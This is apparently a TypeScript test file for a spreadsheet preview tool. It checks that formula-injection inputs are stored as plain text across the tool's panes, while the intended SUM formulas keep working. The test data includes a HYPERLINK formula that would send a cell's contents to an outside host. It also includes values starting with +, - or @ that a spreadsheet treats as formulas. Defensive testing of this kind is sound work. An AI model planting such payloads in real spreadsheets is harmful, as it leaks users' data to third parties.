/**
 * Issue 11, formula injection, on the preview's in-memory workbook, which takes written values
 * as Excel does (src/preview/excelInput.ts): every pane's output keeps hostile text as text.
 */
import { MemoryWorkbookPort } from "../../src/preview/MemoryWorkbookPort";
import { cellFromWrite } from "../../src/preview/excelInput";
import { installPreviewHook } from "../../src/preview/previewHook";
import { formatCell } from "../../src/engine/shared/a1";
import { HOSTILE, PANE_SPECS, specFormulas, verdelenSpec } from "../fixtures/hostileSpecs";

function formulasOn(port: MemoryWorkbookPort, sheetName: string): string[] {
  const out: string[] = [];
  port.display(sheetName).forEach((line, r) =>
    line.forEach((_cell, c) => {
      const formula = port.formulaAt(sheetName, formatCell(r, c));
      if (formula !== undefined) out.push(formula);
    }),
  );
  return out;
}

describe("the in-memory workbook takes written values as Excel does", () => {
  test.each([
    ['=HYPERLINK("http://x/?d="&A4;"Klik")', "General", { value: "", formula: '=HYPERLINK("http://x/?d="&A4;"Klik")' }],
    ["+1", "General", { value: 1 }],
    ["-2", "General", { value: -2 }],
    ["+A1", "General", { value: "", formula: "=+A1" }],
    ["@SUM(A1)", "General", { value: "", formula: "=SUM(A1)" }],
    ["'s-Hertogenbosch", "General", { value: "s-Hertogenbosch" }],
    ['=HYPERLINK("http://x/?d="&A4;"Klik")', "@", { value: '=HYPERLINK("http://x/?d="&A4;"Klik")' }],
    ["-2", "@", { value: "-2" }],
    ["Oss", "General", { value: "Oss" }],
  ] as const)("%s in a %s cell", (input, format, expected) => {
    expect(cellFromWrite(input, format)).toEqual(expected);
  });

  test("a label written without protection shows as a formula through the test hook", async () => {
    const port = new MemoryWorkbookPort();
    await port.updateCells("Blad1", [{ address: "A1", expected: "", content: "=1+1" }]);
    (globalThis as unknown as { window: object }).window = {};
    installPreviewHook(port);
    const hook = (globalThis as unknown as { window: Window }).window.__sdPreview;
    expect(hook.formula("Blad1", "A1")).toBe("=1+1");
    expect(hook.formula("Blad1", "B1")).toBeNull();
  });
});

describe("hostile labels stay text in every pane's output (in-memory workbook)", () => {
  test.each(PANE_SPECS)("%s", async (_pane, build) => {
    const spec = build();
    const port = new MemoryWorkbookPort();
    const { sheetName } = await port.writeTable(spec);
    const allowed = specFormulas(spec);
    expect(formulasOn(port, sheetName).filter((f) => !allowed.has(f))).toEqual([]);
    const texts = new Set(port.values(sheetName).flat());
    for (const label of HOSTILE) expect(texts).toContain(label);
  });

  test("Verdelen keeps its live SUM formulas", async () => {
    const port = new MemoryWorkbookPort();
    const { sheetName } = await port.writeTable(verdelenSpec());
    expect(port.formulaAt(sheetName, "F4")).toBe("=SUM(D4:E4)");
    expect(port.formulaAt(sheetName, "H4")).toBe("=F4+G4");
    expect(port.formulaAt(sheetName, "A4")).toBeUndefined();
    expect(port.values(sheetName)[3][0]).toBe(HOSTILE[0]);
  });

  test("a safe fix that writes a name writes it as text", async () => {
    const port = new MemoryWorkbookPort();
    await port.updateCells("Blad1", [{ address: "A1", expected: "", content: "-Bernheze" }]);
    expect(port.formulaAt("Blad1", "A1")).toBeUndefined();
    expect(port.values("Blad1")).toEqual([["-Bernheze"]]);
  });
});
